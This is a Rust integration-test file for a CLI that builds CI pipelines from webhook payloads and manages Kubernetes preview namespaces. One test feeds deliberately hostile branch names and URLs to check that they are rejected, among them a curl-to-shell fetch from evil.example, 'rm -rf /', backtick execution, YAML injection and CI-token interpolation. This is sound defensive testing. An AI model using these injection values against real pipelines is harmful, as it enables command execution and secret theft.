@@ -1,0 +1,756 @@
+//! Webhook pipelines and preview instances through the `grove` binary: every payload in
+//! `tests/webhooks/` against its reviewed pipeline and plan, bad payloads, and the preview
+//! lifecycle with fake `kubectl` and `tutor` executables that record their argv.
+
+mod common;
+
+use common::*;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+/// The webhook golden cases: `(name, payload path)` for every `tests/webhooks/NAME.json`.
+fn payloads() -> Vec<(String, PathBuf)> {
+    let dir = project().join("tests/webhooks");
+    let mut cases: Vec<(String, PathBuf)> = std::fs::read_dir(&dir)
+        .unwrap()
+        .filter_map(|e| {
+            let path = e.unwrap().path();
+            let file = path.file_name()?.to_str()?;
+            if file.ends_with(".plan.json") {
+                return None;
+            }
+            let name = file.strip_suffix(".json")?.to_string();
+            Some((name, path))
+        })
+        .collect();
+    cases.sort();
+    assert!(
+        cases.len() >= 20,
+        "webhook fixtures are missing from {}",
+        dir.display()
+    );
+    cases
+}
+
+/// A scratch cluster repository: `examples/cluster/` with `tests/webhooks/cluster/` laid over it.
+fn webhook_cluster() -> PathBuf {
+    let root = scratch("webhook-cluster");
+    copy_tree(&example_cluster(), &root);
+    copy_tree(&project().join("tests/webhooks/cluster"), &root);
+    root
+}
+
+#[test]
+fn every_payload_gives_its_reviewed_pipeline_and_plan() {
+    let root = webhook_cluster();
+    let out_dir = scratch("webhook-golden");
+    for (name, payload) in payloads() {
+        let payload = payload.to_str().unwrap();
+        let out = out_dir.join(format!("{name}.yml"));
+        let run = grove(
+            &root,
+            &[
+                "webhookpipeline",
+                "--output",
+                out.to_str().unwrap(),
+                "--payload",
+                payload,
+            ],
+        );
+        assert!(run.status.success(), "{name}: {}", describe(&run));
+        let yaml = std::fs::read_to_string(&out).unwrap();
+        check_golden(&project().join(format!("tests/webhooks/{name}.yml")), &yaml);
+
+        let plan = grove(&root, &["plan", "--webhook", payload, "--format", "json"]);
+        assert!(plan.status.success(), "{name}: {}", describe(&plan));
+        check_golden(
+            &project().join(format!("tests/webhooks/{name}.plan.json")),
+            &String::from_utf8(plan.stdout).unwrap(),
+        );
+        let text = grove(&root, &["plan", "--webhook", payload]);
+        assert!(text.status.success(), "{name}: {}", describe(&text));
+        check_golden(
+            &project().join(format!("tests/webhooks/{name}.plan.txt")),
+            &String::from_utf8(text.stdout).unwrap(),
+        );
+    }
+}
+
+#[test]
+fn the_payload_comes_from_trigger_payload_when_not_given() {
+    let root = webhook_cluster();
+    let out = scratch("trigger-payload").join("pipeline.yml");
+    let payload = project().join("tests/webhooks/github-pr-opened.json");
+    let run = Command::new(env!("CARGO_BIN_EXE_grove"))
+        .arg("--root")
+        .arg(&root)
+        .args(["webhookpipeline", "--output"])
+        .arg(&out)
+        .env("TRIGGER_PAYLOAD", &payload)
+        .env_remove("GROVE_ROOT")
+        .output()
+        .unwrap();
+    assert!(run.status.success(), "{}", describe(&run));
+    assert_eq!(
+        std::fs::read_to_string(&out).unwrap(),
+        std::fs::read_to_string(project().join("tests/webhooks/github-pr-opened.yml")).unwrap()
+    );
+    let missing = Command::new(env!("CARGO_BIN_EXE_grove"))
+        .arg("--root")
+        .arg(&root)
+        .args(["webhookpipeline", "--output"])
+        .arg(&out)
+        .env_remove("TRIGGER_PAYLOAD")
+        .output()
+        .unwrap();
+    assert_eq!(missing.status.code(), Some(2), "{}", describe(&missing));
+}
+
+#[test]
+fn a_cluster_push_is_byte_identical_to_its_head_commit_title() {
+    let root = webhook_cluster();
+    let dir = scratch("cluster-push");
+    let payload = project().join("tests/webhooks/gitlab-push-cluster.json");
+    let body: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&payload).unwrap()).unwrap();
+    let title = body["commits"][1]["message"]
+        .as_str()
+        .unwrap()
+        .lines()
+        .next()
+        .unwrap()
+        .to_string();
+    assert_eq!(title, "[AutoDeploy][Update] campus|42");
+    let (by_hook, by_title) = (dir.join("hook.yml"), dir.join("title.yml"));
+    let run = grove(
+        &root,
+        &[
+            "webhookpipeline",
+            "--output",
+            by_hook.to_str().unwrap(),
+            "--payload",
+            payload.to_str().unwrap(),
+        ],
+    );
+    assert!(run.status.success(), "{}", describe(&run));
+    let run = grove(&root, &["pipeline", &title, by_title.to_str().unwrap()]);
+    assert!(run.status.success(), "{}", describe(&run));
+    assert_eq!(
+        std::fs::read(&by_hook).unwrap(),
+        std::fs::read(&by_title).unwrap()
+    );
+    let hook_plan = grove(
+        &root,
+        &[
+            "plan",
+            "--webhook",
+            payload.to_str().unwrap(),
+            "--format",
+            "json",
+        ],
+    );
+    let title_plan = grove(&root, &["plan", &title, "--format", "json"]);
+    assert_eq!(hook_plan.stdout, title_plan.stdout);
+    // The title's golden too: the webhook changes nothing about it.
+    assert_eq!(
+        std::fs::read_to_string(&by_hook).unwrap(),
+        std::fs::read_to_string(project().join("tests/titles/04-update.yml")).unwrap()
+    );
+}
+
+/// Runs `grove webhookpipeline` on payload `body`; asserts exit 5, `message` on stderr, no
+/// panic, and nothing written.
+fn check_bad(what: &str, body: &[u8], message: &str) {
+    let root = webhook_cluster();
+    let dir = scratch("bad-payload");
+    let payload = dir.join("payload.json");
+    std::fs::write(&payload, body).unwrap();
+    let out = dir.join("out").join("pipeline.yml");
+    std::fs::create_dir_all(out.parent().unwrap()).unwrap();
+    let run = grove(
+        &root,
+        &[
+            "webhookpipeline",
+            "--output",
+            out.to_str().unwrap(),
+            "--payload",
+            payload.to_str().unwrap(),
+        ],
+    );
+    let stderr = String::from_utf8_lossy(&run.stderr);
+    assert_eq!(run.status.code(), Some(5), "{what}: {}", describe(&run));
+    assert!(
+        stderr.contains(message),
+        "{what}: expected {message:?} in\n{stderr}"
+    );
+    assert!(!stderr.contains("panicked"), "{what}: {stderr}");
+    assert_eq!(
+        std::fs::read_dir(out.parent().unwrap()).unwrap().count(),
+        0,
+        "{what}: something was written"
+    );
+    let plan = grove(&root, &["plan", "--webhook", payload.to_str().unwrap()]);
+    assert_eq!(plan.status.code(), Some(5), "{what}: {}", describe(&plan));
+}
+
+/// A fixture with one value replaced at a JSON pointer.
+fn with(fixture: &str, pointer: &str, value: serde_json::Value) -> Vec<u8> {
+    let path = project().join(format!("tests/webhooks/{fixture}.json"));
+    let mut body: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
+    *body
+        .pointer_mut(pointer)
+        .unwrap_or_else(|| panic!("{pointer}")) = value;
+    serde_json::to_vec(&body).unwrap()
+}
+
+/// A fixture with one key removed.
+fn without(fixture: &str, parent: &str, key: &str) -> Vec<u8> {
+    let path = project().join(format!("tests/webhooks/{fixture}.json"));
+    let mut body: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
+    body.pointer_mut(parent)
+        .unwrap()
+        .as_object_mut()
+        .unwrap()
+        .remove(key)
+        .unwrap();
+    serde_json::to_vec(&body).unwrap()
+}
+
+#[test]
+fn bad_payloads_give_exit_5_and_name_the_problem() {
+    use serde_json::json;
+    check_bad("empty", b"", "invalid webhook payload: not JSON");
+    check_bad(
+        "not JSON",
+        b"ref=refs/heads/main&x=1",
+        "invalid webhook payload: not JSON",
+    );
+    check_bad("truncated", b"{\"object_kind\": \"push\", ", "not JSON");
+    check_bad("a list", b"[]", "it is a list; expected a JSON object");
+    check_bad("not UTF-8", b"{\"ref\": \"\xff\"}", "not UTF-8");
+    check_bad(
+        "wrong type",
+        &with("gitlab-push-cluster", "/ref", json!(42)),
+        "`ref` is a number; expected a string",
+    );
+    check_bad(
+        "wrong type deep",
+        &with("github-pr-opened", "/pull_request/head/ref", json!(["a"])),
+        "`pull_request.head.ref` is a list; expected a string",
+    );
+    check_bad(
+        "wrong type number",
+        &with("gitlab-mr-open", "/object_attributes/iid", json!("17")),
+        "`object_attributes.iid` is a string; expected a number",
+    );
+    check_bad(
+        "wrong type object",
+        &with(
+            "github-push-edx-platform",
+            "/repository",
+            json!("open-craft"),
+        ),
+        "`repository` is a string; expected an object",
+    );
+    check_bad(
+        "missing field",
+        &without("gitlab-mr-open", "/object_attributes", "source_branch"),
+        "`object_attributes.source_branch` is missing",
+    );
+    check_bad(
+        "missing field github",
+        &without("github-pr-opened", "/pull_request", "base"),
+        "`pull_request.base.repo` is missing",
+    );
+    check_bad(
+        "missing field push",
+        &without("gitlab-push-cluster", "", "ref"),
+        "`ref` is missing",
+    );
+    let deep = format!(
+        "{{\"object_kind\": \"push\", \"x\": {}{}}}",
+        "[".repeat(10_000),
+        "]".repeat(10_000)
+    );
+    check_bad("deep nesting", deep.as_bytes(), "recursion limit exceeded");
+    for branch in [
+        "feature/$(curl evil.example|sh)",
+        "x\"\nevil:\n  script: [id]",
+        "a;rm -rf /",
+        "`id`",
+        "x: {y: z}",
+        "--upload-pack=touch",
+        "${CI_JOB_TOKEN}",
+    ] {
+        check_bad(
+            branch,
+            &with("github-pr-opened", "/pull_request/head/ref", json!(branch)),
+            "invalid webhook payload: the source branch",
+        );
+        check_bad(
+            branch,
+            &with(
+                "gitlab-mr-open",
+                "/object_attributes/source_branch",
+                json!(branch),
+            ),
+            "invalid webhook payload: the source branch",
+        );
+        check_bad(
+            branch,
+            &with(
+                "github-push-edx-platform",
+                "/ref",
+                json!(format!("refs/heads/{branch}")),
+            ),
+            "invalid webhook payload: the pushed branch",
+        );
+    }
+    check_bad(
+        "hostile source repository",
+        &with(
+            "github-pr-opened",
+            "/pull_request/head/repo/clone_url",
+            json!("https://x.org/$CI_JOB_TOKEN"),
+        ),
+        "the source repository",
+    );
+}
+
+#[test]
+fn a_30_mb_payload_is_refused_before_it_is_read() {
+    let root = webhook_cluster();
+    let dir = scratch("huge-payload");
+    let payload = dir.join("payload.json");
+    // A sparse file: 30 MB long, nothing on disk, refused by its size alone.
+    let file = std::fs::File::create(&payload).unwrap();
+    file.set_len(30 * 1024 * 1024).unwrap();
+    let out = dir.join("pipeline.yml");
+    let run = grove(
+        &root,
+        &[
+            "webhookpipeline",
+            "--output",
+            out.to_str().unwrap(),
+            "--payload",
+            payload.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(run.status.code(), Some(5), "{}", describe(&run));
+    assert!(
+        String::from_utf8_lossy(&run.stderr).contains("the limit is 26214400 (25 MB)"),
+        "{}",
+        describe(&run)
+    );
+    assert!(!out.exists());
+    // A real 30 MB JSON body too, through the same door.
+    let body = format!("{{\"pad\": \"{}\"}}", "x".repeat(30 * 1024 * 1024));
+    std::fs::write(&payload, body).unwrap();
+    let run = grove(&root, &["plan", "--webhook", payload.to_str().unwrap()]);
+    assert_eq!(run.status.code(), Some(5), "{}", describe(&run));
+}
+
+/// A folder of fake `kubectl` and `tutor` that append their argv (one call a line, arguments
+/// separated by tabs) to `calls.log`, and keep namespaces as folders under `namespaces/`.
+struct Fakes {
+    dir: PathBuf,
+}
+
+impl Fakes {
+    fn new() -> Fakes {
+        let dir = scratch("fakes");
+        let bin = dir.join("bin");
+        std::fs::create_dir_all(bin.join("../namespaces")).unwrap();
+        let record = format!(
+            "#!/bin/sh\n{{ printf '%s' \"$(basename \"$0\")\"; for a in \"$@\"; do printf '\\t%s' \"$a\"; done; printf '\\n'; }} >> '{}/calls.log'\n",
+            dir.display()
+        );
+        let kubectl = format!(
+            r#"{record}ns='{ns}'
+case "$1 $2" in
+  "get namespace")
+    if [ "$4" = "--ignore-not-found" ]; then
+      [ -d "$ns/$3" ] && printf '%s:%s' "$3" "$(cat "$ns/$3/label" 2>/dev/null)"
+      exit 0
+    fi
+    [ -d "$ns/$3" ]; exit $? ;;
+  "create namespace") mkdir "$ns/$3"; exit $? ;;
+  "label namespace") echo "${{4#grove-preview=}}" > "$ns/$3/label"; exit 0 ;;
+  "delete namespace") [ -d "$ns/$3" ] || exit 1; rm -rf "$ns/$3"; exit 0 ;;
+  "--namespace "*)
+    case "$3" in
+      get) printf 'lms\ncms\n' ;;
+    esac
+    exit 0 ;;
+esac
+echo "fake kubectl: unexpected call" >&2; exit 2
+"#,
+            ns = dir.join("namespaces").display()
+        );
+        let tutor = format!("{record}exit 0\n");
+        for (name, script) in [("kubectl", kubectl), ("tutor", tutor)] {
+            let path = bin.join(name);
+            std::fs::write(&path, script).unwrap();
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        Fakes { dir }
+    }
+
+    /// Runs grove with the fakes first on PATH.
+    fn grove(&self, root: &Path, args: &[&str]) -> Output {
+        let path = format!(
+            "{}:{}",
+            self.dir.join("bin").display(),
+            std::env::var("PATH").unwrap_or_default()
+        );
+        Command::new(env!("CARGO_BIN_EXE_grove"))
+            .arg("--root")
+            .arg(root)
+            .args(args)
+            .env_remove("GROVE_ROOT")
+            .env("PATH", path)
+            .env("NO_COLOR", "1")
+            .output()
+            .unwrap()
+    }
+
+    /// The calls recorded since the last time, each as its argv.
+    fn take_calls(&self) -> Vec<Vec<String>> {
+        let log = self.dir.join("calls.log");
+        let text = std::fs::read_to_string(&log).unwrap_or_default();
+        let _ = std::fs::remove_file(&log);
+        text.lines()
+            .map(|l| l.split('\t').map(str::to_string).collect())
+            .collect()
+    }
+
+    fn namespaces(&self) -> Vec<String> {
+        let mut names: Vec<String> = std::fs::read_dir(self.dir.join("namespaces"))
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        names.sort();
+        names
+    }
+}
+
+/// The script lines of the preview job of a generated pipeline, with its variables' values
+/// put in, as the job would run them: the argv of each `grove preview` call.
+fn preview_calls(yaml: &str) -> Vec<Vec<String>> {
+    let pipeline = grove_core::Pipeline::parse(yaml).unwrap();
+    let mut calls = Vec::new();
+    for job in &pipeline.jobs {
+        for line in &job.script {
+            let Some(rest) = line.strip_prefix("grove preview ") else {
+                continue;
+            };
+            let mut argv = vec!["preview".to_string()];
+            for word in rest.split(' ') {
+                let word = word.trim_matches('"');
+                let value = match word.strip_prefix('$') {
+                    Some(var) => job
+                        .variables
+                        .iter()
+                        .find(|v| v.name == var)
+                        .unwrap_or_else(|| panic!("{var} is not a variable of {}", job.name))
+                        .value
+                        .clone(),
+                    None => word.to_string(),
+                };
+                argv.push(value);
+            }
+            calls.push(argv);
+        }
+    }
+    calls
+}
+
+fn strings(list: &[&str]) -> Vec<String> {
+    list.iter().map(|s| s.to_string()).collect()
+}
+
+#[test]
+fn the_preview_lifecycle_leaves_nothing_behind() {
+    let root = webhook_cluster();
+    let fakes = Fakes::new();
+    let before: Vec<String> = {
+        let mut list: Vec<String> = std::fs::read_dir(root.join("instances"))
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        list.sort();
+        list
+    };
+    let out = scratch("lifecycle").join("pipeline.yml");
+    let run_payload = |fixture: &str| -> Vec<Vec<String>> {
+        let payload = project().join(format!("tests/webhooks/{fixture}.json"));
+        let run = fakes.grove(
+            &root,
+            &[
+                "webhookpipeline",
+                "--output",
+                out.to_str().unwrap(),
+                "--payload",
+                payload.to_str().unwrap(),
+            ],
+        );
+        assert!(run.status.success(), "{fixture}: {}", describe(&run));
+        preview_calls(&std::fs::read_to_string(&out).unwrap())
+    };
+    let name = "pr-1234-feature-better-grading-v2-";
+    // Opened: the pipeline's preview job calls `grove preview up` (and offers a manual down).
+    let mut calls = run_payload("github-pr-opened");
+    // Jobs are read back by name: put `up` first.
+    calls.sort_by(|a, b| b[1].cmp(&a[1]));
+    assert_eq!(calls.len(), 2, "{calls:?}");
+    let up = &calls[0];
+    assert_eq!(up[..2], strings(&["preview", "up"]));
+    assert!(up[2].starts_with(name), "{up:?}");
+    let preview = up[2].clone();
+    assert_eq!(
+        up[3..],
+        strings(&[
+            "--template",
+            "staging",
+            "--kind",
+            "edx-platform",
+            "--repository",
+            "https://github.com/open-craft/edx-platform.git",
+            "--version",
+            "feature/Better-Grading_v2",
+            "--host",
+            &format!("{preview}.preview.courses.example.org"),
+        ])
+    );
+    assert_eq!(calls[1], strings(&["preview", "down", &preview]));
+    let args: Vec<&str> = up.iter().map(String::as_str).collect();
+    let run = fakes.grove(&root, &args);
+    assert!(run.status.success(), "{}", describe(&run));
+    assert_eq!(
+        fakes.take_calls(),
+        vec![
+            strings(&[
+                "kubectl",
+                "get",
+                "namespace",
+                &preview,
+                "--ignore-not-found",
+                "--output",
+                "jsonpath={.metadata.name}:{.metadata.labels.grove-preview}",
+            ]),
+            strings(&["kubectl", "create", "namespace", &preview]),
+            strings(&[
+                "kubectl",
+                "label",
+                "namespace",
+                &preview,
+                "grove-preview=true"
+            ]),
+        ]
+    );
+    let dir = root.join("instances").join(&preview);
+    let config = std::fs::read_to_string(dir.join("config.yml")).unwrap();
+    assert!(
+        config.contains(&format!("K8S_NAMESPACE: \"{preview}\"\n")),
+        "{config}"
+    );
+    assert!(
+        config.contains("EDX_PLATFORM_VERSION: \"feature/Better-Grading_v2\"\n"),
+        "{config}"
+    );
+    assert!(config.contains("PLATFORM_NAME: \"Staging\"\n"), "{config}");
+    assert!(!config.contains("staging.courses.example.org"), "{config}");
+    assert_eq!(fakes.namespaces(), vec![preview.clone()]);
+
+    // Synchronized: the same preview, updated in place; the venv is kept.
+    std::fs::create_dir_all(dir.join(".venv/bin")).unwrap();
+    let calls = run_payload("github-pr-synchronize");
+    assert!(calls.contains(up), "an update asks for the same preview");
+    let run = fakes.grove(&root, &args);
+    assert!(run.status.success(), "{}", describe(&run));
+    assert_eq!(
+        fakes.take_calls(),
+        vec![strings(&[
+            "kubectl",
+            "get",
+            "namespace",
+            &preview,
+            "--ignore-not-found",
+            "--output",
+            "jsonpath={.metadata.name}:{.metadata.labels.grove-preview}",
+        ])]
+    );
+    assert!(dir.join(".venv/bin").is_dir());
+    assert_eq!(
+        std::fs::read_to_string(dir.join("config.yml")).unwrap(),
+        config
+    );
+
+    // Merged: the pipeline's only job calls `grove preview down`.
+    let calls = run_payload("github-pr-merged");
+    assert_eq!(calls, vec![strings(&["preview", "down", &preview])]);
+    let run = fakes.grove(&root, &["preview", "down", &preview]);
+    assert!(run.status.success(), "{}", describe(&run));
+    let get = strings(&[
+        "kubectl",
+        "get",
+        "namespace",
+        &preview,
+        "--ignore-not-found",
+        "--output",
+        "jsonpath={.metadata.name}:{.metadata.labels.grove-preview}",
+    ]);
+    assert_eq!(
+        fakes.take_calls(),
+        vec![
+            get.clone(),
+            strings(&["kubectl", "get", "namespace", &preview]),
+            strings(&[
+                "kubectl",
+                "--namespace",
+                &preview,
+                "get",
+                "deployments",
+                "--output",
+                "jsonpath={range .items[?(@.spec.replicas>0)]}{.metadata.name}{\"\\n\"}{end}",
+            ]),
+            strings(&[
+                "kubectl",
+                "--namespace",
+                &preview,
+                "scale",
+                "--replicas=0",
+                "deployment/lms",
+                "deployment/cms",
+            ]),
+            strings(&["kubectl", "delete", "namespace", &preview, "--wait=true"]),
+        ]
+    );
+    // Nothing is left: no folder, no namespace, no staging folder; Tutor was never run.
+    let mut after: Vec<String> = std::fs::read_dir(root.join("instances"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    after.sort();
+    assert_eq!(after, before);
+    assert!(fakes.namespaces().is_empty());
+
+    // Closed again (or a second stop): already gone is success, and asks only once.
+    let run = fakes.grove(&root, &["preview", "down", &preview]);
+    assert!(run.status.success(), "{}", describe(&run));
+    assert!(String::from_utf8_lossy(&run.stderr).contains("already gone"));
+    assert_eq!(fakes.take_calls(), vec![get]);
+}
+
+#[test]
+fn previews_never_touch_what_is_not_a_preview() {
+    let root = webhook_cluster();
+    let fakes = Fakes::new();
+    // A committed instance is not removed, nor overwritten.
+    let run = fakes.grove(&root, &["preview", "down", "campus"]);
+    assert_eq!(run.status.code(), Some(4), "{}", describe(&run));
+    assert!(root.join("instances/campus/config.yml").is_file());
+    let up = |name: &str, template: &str| {
+        fakes.grove(
+            &root,
+            &[
+                "preview",
+                "up",
+                name,
+                "--template",
+                template,
+                "--kind",
+                "edx-platform",
+                "--repository",
+                "https://github.com/open-craft/edx-platform.git",
+                "--version",
+                "main",
+                "--host",
+                "x.preview.example.org",
+            ],
+        )
+    };
+    let run = up("campus", "staging");
+    assert_eq!(run.status.code(), Some(4), "{}", describe(&run));
+    // A missing template is "no such instance".
+    let run = up("pr-1-x", "nowhere");
+    assert_eq!(run.status.code(), Some(3), "{}", describe(&run));
+    // A namespace that is not labelled a preview is left alone (exit 4), up or down.
+    std::fs::create_dir_all(fakes.dir.join("namespaces/pr-2-x")).unwrap();
+    let run = up("pr-2-x", "staging");
+    assert_eq!(run.status.code(), Some(4), "{}", describe(&run));
+    assert!(!root.join("instances/pr-2-x").exists());
+    let run = fakes.grove(&root, &["preview", "down", "pr-2-x"]);
+    assert_eq!(run.status.code(), Some(4), "{}", describe(&run));
+    assert_eq!(fakes.namespaces(), ["pr-2-x"]);
+    // Bad values on the command line are exit 5.
+    let run = fakes.grove(
+        &root,
+        &[
+            "preview",
+            "up",
+            "pr-3-x",
+            "--template",
+            "staging",
+            "--kind",
+            "theme",
+            "--repository",
+            "https://x.org/$CI_JOB_TOKEN",
+            "--version",
+            "main",
+            "--host",
+            "x.org",
+        ],
+    );
+    assert_eq!(run.status.code(), Some(5), "{}", describe(&run));
+}
+
+#[test]
+fn two_pull_requests_on_similar_long_branches_get_different_previews() {
+    let root = webhook_cluster();
+    let branch = "feature/improve-the-grading-of-very-long-courses-with-many-subsections";
+    let mut names = Vec::new();
+    for (number, branch) in [
+        (1300, format!("{branch}-part-1")),
+        (1301, format!("{branch}-part-2")),
+        (1300, format!("{branch}-part-2")),
+    ] {
+        let dir = scratch("similar");
+        let payload = dir.join("payload.json");
+        let mut body = with(
+            "github-pr-opened",
+            "/pull_request/head/ref",
+            serde_json::json!(branch),
+        );
+        let mut value: serde_json::Value = serde_json::from_slice(&body).unwrap();
+        value["number"] = serde_json::json!(number);
+        body = serde_json::to_vec(&value).unwrap();
+        std::fs::write(&payload, body).unwrap();
+        let run = grove(
+            &root,
+            &[
+                "plan",
+                "--webhook",
+                payload.to_str().unwrap(),
+                "--format",
+                "json",
+            ],
+        );
+        assert!(run.status.success(), "{}", describe(&run));
+        let plan: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
+        let name = plan["preview"]["name"].as_str().unwrap().to_string();
+        assert!(name.len() <= 49, "{name}");
+        assert_eq!(plan["preview"]["environment"], format!("review/{name}"));
+        assert_eq!(
+            plan["preview"]["url"],
+            format!("https://{name}.preview.courses.example.org")
+        );
+        names.push(name);
+    }
+    assert_ne!(names[0], names[1]);
+    assert_ne!(names[0], names[2]);
+    assert_ne!(names[1], names[2]);
+}
